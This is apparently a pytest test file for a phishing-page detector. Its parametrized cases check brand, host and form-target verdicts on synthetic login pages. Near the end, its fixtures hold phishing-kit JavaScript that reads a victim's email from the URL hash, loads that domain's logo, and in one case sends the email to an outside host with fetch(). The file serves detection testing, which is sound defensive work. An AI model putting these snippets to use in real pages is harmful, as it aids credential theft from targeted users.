"""The verdict table, row by row."""

import pytest

from pages.made import brands, form, page, saved
from unhook.pages.source.look import look
from unhook.pages.source.model import PageReport

HOME = "https://login.provider-a.test/"
AWAY = "https://files.example.net/"
NAMED = page("Sign in to Provider A", form("/p"))


def told(html: str, url: str | None = AWAY, where: str = "recorded", status: int | None = None) -> PageReport:
    from dataclasses import replace

    kept = saved(html, url, status=status)
    return look(kept if where == "recorded" else replace(kept, where="said"), brands())


@pytest.mark.parametrize(
    ("html", "url", "verdict", "reason"),
    [
        (NAMED, AWAY, "malicious", "brand-off-host"),
        (NAMED, HOME, "benign-home-realm", "home-realm"),
        (page("Provider A", form("https://b.test/p")), HOME, "suspicious", "owner-posts-elsewhere"),
        (page("Provider A", form(HOME)), None, "benign-home-realm", "home-realm-form"),
        (page("Provider A", form("https://b.test/p")), None, "malicious", "brand-posts-elsewhere"),
        (page("Provider A", form()), None, "suspicious", "brand-without-host"),
        (page("Provider A", form(HOME)), AWAY, "inconclusive", "posts-to-owner"),
        (page("Provider B", form("/p")), HOME, "inconclusive", "tenant-of-provider"),
        (page("About Provider A and others", form("/p")), AWAY, "inconclusive", "brand-mentioned"),
        (page("Hello", form("/p")), AWAY, "inconclusive", "no-brand"),
        (page("Provider A", "<p>Words</p>"), AWAY, "inconclusive", "asks-for-nothing"),
        (page("Hello", form("https://b.test/p")), AWAY, "inconclusive", "password-to-stranger"),
        (page("Hello", form("https://b.test/p")), None, "suspicious", "password-to-stranger"),
        (page("Webmail login", form("https://b.test/p")), AWAY, "suspicious", "password-to-stranger"),
        (page("Hello", form("mailto:a@b.test")), AWAY, "malicious", "password-to-form-service"),
        (page("WordPress › Log in", form("/wp-login.php")), AWAY, "inconclusive", "software-of-anybody"),
        (page("WordPress › Log in", form("/p.php")), AWAY, "suspicious", "brand-off-host"),
    ],
)
def test_a_row(html: str, url: str | None, verdict: str, reason: str) -> None:
    report = told(html, url)
    assert (report.verdict, report.reasons[0].key) == (verdict, reason)


def test_what_only_the_file_says_of_its_place_accuses_but_never_clears() -> None:
    assert told(NAMED, HOME, "said").verdict == "inconclusive"
    assert told(NAMED, AWAY, "said").verdict == "malicious"


def test_a_page_that_was_not_read_wholly_is_not_benign() -> None:
    many = page("Sign in to Provider A", form("/p") + "<input name=x>" * 3_000)
    report = told(many, HOME)
    assert report.reached == ("elements",)
    assert report.verdict == "inconclusive"


def test_a_refusal_is_told() -> None:
    assert "page-refused" in [reason.key for reason in told(page("Not found"), status=404).reasons]


def test_customers_pages_at_a_brands_hosting_are_not_the_brands() -> None:
    report = told(page("Google Account - Sign in", form("/p")), "https://sites.google.com/view/x")
    assert report.verdict == "malicious"


LOGO = "const email=atob(location.hash.slice(1));x.src='https://logo.clearbit.com/'+email.split('@')[1]"


@pytest.mark.parametrize(
    ("title", "to", "script", "verdict"),
    [
        ("Victim site", "/in", LOGO, "suspicious"),
        ("Sign in", "/in", LOGO, "malicious"),
        ("Victim site", "https://collect.example.net/p", LOGO, "malicious"),
        ("Victim site", "/in", LOGO + ";fetch('https://dns.google/resolve?name='+email)", "malicious"),
    ],
)
def test_a_page_under_its_own_name_has_first_to_be_opened(
    title: str, to: str, script: str, verdict: str
) -> None:
    html = page(title, f"<img id=x>{form(to)}", script, heading=title)
    report = told(html, "https://www.victim-site.test/")
    found = [reason.verdict for reason in report.reasons if reason.key == "adapts-to-address"]
    assert found == [verdict]
